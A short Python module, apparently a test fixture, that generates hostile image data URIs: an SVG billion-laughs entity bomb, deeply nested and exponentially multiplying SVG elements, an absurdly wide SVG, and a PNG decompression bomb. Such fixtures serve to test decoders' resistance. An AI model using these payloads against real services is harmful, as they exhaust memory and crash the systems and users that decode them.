"""Pictures that are not what they say, or that would harm whoever decodes them."""

from __future__ import annotations

import base64
import struct
import zlib

SVG = "http://www.w3.org/2000/svg"


def uri(data: bytes | str, media_type: str) -> str:
    """A data URI."""
    raw = data.encode() if isinstance(data, str) else data
    return f"data:{media_type};base64,{base64.b64encode(raw).decode()}"


def billion_laughs() -> str:
    """Entities that expand to 10^9 words."""
    entities = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return uri(
        f'<!DOCTYPE svg [<!ENTITY a0 "ha">{entities}]><svg xmlns="{SVG}"><title>&a9;</title></svg>', "image/svg+xml"
    )


def deep(levels: int = 20_000) -> str:
    """Nested groups, which a recursive reader follows to the end of its stack."""
    return uri(f'<svg xmlns="{SVG}" viewBox="0 0 9 9">{"<g>" * levels}{"</g>" * levels}</svg>', "image/svg+xml")


def multiplying() -> str:
    """``use`` elements that double: 2^30 shapes from a kilobyte."""
    groups = "".join(f'<g id="g{i}">{f"""<use href="#g{i - 1}"/>""" * 2}</g>' for i in range(1, 31))
    body = f'<g id="g0"><rect width="1" height="1"/></g>{groups}<use href="#g30"/>'
    return uri(f'<svg xmlns="{SVG}" viewBox="0 0 9 9">{body}</svg>', "image/svg+xml")


def endless_line() -> str:
    """A document 1e9 wide and 1 high: its picture would be a line without end."""
    return uri(f'<svg xmlns="{SVG}" width="1000000000" height="1"><rect width="9" height="9"/></svg>', "image/svg+xml")


def vast_png() -> str:
    """A header of 30000x30000 pixels (3.6 GB decoded) over a few bytes."""
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 6, 0, 0, 0)
    body = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b"\0" * 64))
    return uri(body + _chunk(b"IEND", b""), "image/png")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
